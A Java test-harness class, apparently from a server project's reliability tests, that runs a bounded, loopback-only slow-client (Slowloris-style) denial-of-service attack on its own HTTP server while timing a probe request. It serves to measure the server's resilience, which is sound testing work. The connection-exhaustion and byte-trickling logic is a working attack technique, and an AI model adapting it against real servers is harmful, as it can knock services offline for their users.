package dev.novahost.reliability;

import java.io.IOException;
import java.io.InputStream;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.Executors;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicInteger;

/**
 * The slow-client attack of issue 13, item 7, against a nova-host already running on loopback: opens
 * {@code connections} connections from {@code addresses} loopback addresses (127.0.1.1, 127.0.1.2, ...),
 * each sends a request head that never ends and one more byte of it every 5 s (which restarts Tomcat's
 * per-read timeout), and a probe from 127.0.2.1 times {@code GET /api/v1/host} every 2 s. With
 * {@code reconnect}, every connection the server closes is opened again at once. Bounded: it stops after
 * {@code seconds} and closes everything. Loopback only. docs/RELIABILITY.md has the figures.
 *
 * <pre>java -cp target/test-classes dev.novahost.reliability.SlowClientAttack PORT CONNECTIONS ADDRESSES SECONDS [reconnect]</pre>
 */
public final class SlowClientAttack {

    private static final byte[] HEAD = "GET /api/v1/host HTTP/1.1\r\nHost: localhost\r\nX-Slow: "
            .getBytes(StandardCharsets.US_ASCII);
    private static final byte[] ONE_BYTE = {'a'};
    private static final int OPENERS = 8;

    private final int port;
    private final boolean reconnect;
    private final List<Slow> slow = new ArrayList<>();
    private final AtomicInteger closedByServer = new AtomicInteger();
    private final AtomicInteger refused = new AtomicInteger();
    private final long start = System.nanoTime();

    private SlowClientAttack(int port, boolean reconnect) {
        this.port = port;
        this.reconnect = reconnect;
    }

    /** One attacking connection, from its loopback address. */
    private final class Slow {
        final InetAddress from;
        Socket socket;

        Slow(InetAddress from) {
            this.from = from;
        }

        boolean open() {
            try {
                socket = connect(from, 1_000);
                socket.getOutputStream().write(HEAD);
                return true;
            } catch (IOException e) {
                refused.incrementAndGet();
                socket = null;
                return false;
            }
        }

        void trickle() {
            if (socket == null) {
                if (reconnect) {
                    open();
                }
                return;
            }
            try {
                socket.getOutputStream().write(ONE_BYTE);
            } catch (IOException closed) {
                closedByServer.incrementAndGet();
                close();
                if (reconnect) {
                    open();
                }
            }
        }

        void close() {
            try {
                if (socket != null) {
                    socket.close();
                }
            } catch (IOException ignored) {
                // going anyway
            }
            socket = null;
        }
    }

    public static void main(String[] args) throws Exception {
        int port = Integer.parseInt(args[0]);
        int connections = Integer.parseInt(args[1]);
        int addresses = Integer.parseInt(args[2]);
        int seconds = Integer.parseInt(args[3]);
        boolean reconnect = args.length > 4 && args[4].equals("reconnect");
        new SlowClientAttack(port, reconnect).run(connections, addresses, seconds);
    }

    private void run(int connections, int addresses, int seconds) throws Exception {
        System.out.printf("probe before the attack: %s%n", probe());
        for (int i = 0; i < connections; i++) {
            slow.add(new Slow(InetAddress.getByName("127.0.1." + (1 + i % addresses))));
        }
        var opened = new AtomicInteger();
        try (var openers = Executors.newFixedThreadPool(OPENERS)) {
            for (int t = 0; t < OPENERS; t++) {
                int first = t;
                openers.execute(() -> {
                    for (int i = first; i < slow.size(); i += OPENERS) {
                        if (slow.get(i).open()) {
                            opened.incrementAndGet();
                        }
                    }
                });
            }
        }
        System.out.printf("%.1f s: %d connections opened from %d addresses, %d not (connect timed out or refused)%n",
                elapsed(), opened.get(), addresses, connections - opened.get());
        var trickler = Executors.newSingleThreadScheduledExecutor();
        trickler.scheduleWithFixedDelay(() -> slow.forEach(Slow::trickle), 5, 5, TimeUnit.SECONDS);
        try {
            for (long end = System.nanoTime() + TimeUnit.SECONDS.toNanos(seconds); System.nanoTime() < end; ) {
                long probeStart = System.nanoTime();
                String result = probe();
                System.out.printf("%.1f s: probe %s; closed by the server so far %d%n", elapsed(), result,
                        closedByServer.get());
                long waited = TimeUnit.NANOSECONDS.toMillis(System.nanoTime() - probeStart);
                if (waited < 2_000) {
                    Thread.sleep(2_000 - waited); // pacing of a measurement program, not a test
                }
            }
        } finally {
            trickler.shutdownNow();
            trickler.awaitTermination(10, TimeUnit.SECONDS);
            slow.forEach(Slow::close);
        }
        System.out.printf("%.1f s: done; %d closed by the server, %d connects failed%n", elapsed(), closedByServer.get(),
                refused.get());
    }

    /** GET /api/v1/host from 127.0.2.1: its status and time, or why there was none within 5 s. */
    private String probe() {
        long t0 = System.nanoTime();
        try (Socket socket = connect(InetAddress.getByName("127.0.2.1"), 5_000)) {
            socket.setSoTimeout(5_000);
            socket.getOutputStream().write("GET /api/v1/host HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n"
                    .getBytes(StandardCharsets.US_ASCII));
            InputStream in = socket.getInputStream();
            var status = new StringBuilder();
            for (int b = in.read(); b >= 0 && b != '\r'; b = in.read()) {
                status.append((char) b);
            }
            return String.format("'%s' in %.1f ms", status, (System.nanoTime() - t0) / 1e6);
        } catch (IOException e) {
            return String.format("no answer (%s) after %.1f s", e.getClass().getSimpleName() + ": " + e.getMessage(),
                    (System.nanoTime() - t0) / 1e9);
        }
    }

    private Socket connect(InetAddress from, int timeoutMs) throws IOException {
        var socket = new Socket();
        try {
            socket.bind(new InetSocketAddress(from, 0));
            socket.connect(new InetSocketAddress(InetAddress.getLoopbackAddress(), port), timeoutMs);
            return socket;
        } catch (IOException e) {
            socket.close();
            throw e;
        }
    }

    private double elapsed() {
        return (System.nanoTime() - start) / 1e9;
    }
}
